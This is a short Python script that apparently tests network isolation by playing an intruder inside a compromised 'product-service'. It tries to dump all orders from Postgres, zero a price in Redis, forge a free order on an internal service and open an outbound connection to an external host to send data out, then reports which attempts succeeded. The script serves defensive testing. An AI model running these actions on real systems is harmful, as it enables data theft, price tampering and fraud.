"""What somebody tries who has broken into product-service: a line for each, what it was and what came of it."""

import socket
import sys
from concurrent.futures import ThreadPoolExecutor

import stores
import web

ELSEWHERE = sys.argv[1]


def steal():
    return f"{len(stores.sql('SELECT * FROM orders'))} orders stolen"


def poison():
    return f"prices changed: {stores.redis('SET', 'price:8', 0).decode()}"


def forge():
    order = web.ask("http://10.0.0.40/orders", {"product": 7, "price": 0}, stores.PATIENCE)
    return f"order {order['order']} forged"


def leak():
    with socket.create_connection((ELSEWHERE, 80), stores.PATIENCE) as connection:
        connection.sendall(b"POST / HTTP/1.0\r\n\r\n")
        return f"sent out: {connection.recv(15).decode()}"


def attempt(what):
    try:
        return f"reached\t{what()}"
    except OSError as error:
        # urllib wraps what the socket said
        return f"stopped\t{getattr(error, 'reason', error)}"


TARGETS = {"postgres": steal, "redis": poison, "order-service": forge, "internet": leak}
with ThreadPoolExecutor() as pool:
    for target, outcome in zip(TARGETS, pool.map(attempt, TARGETS.values())):
        print(target, outcome, sep="\t")
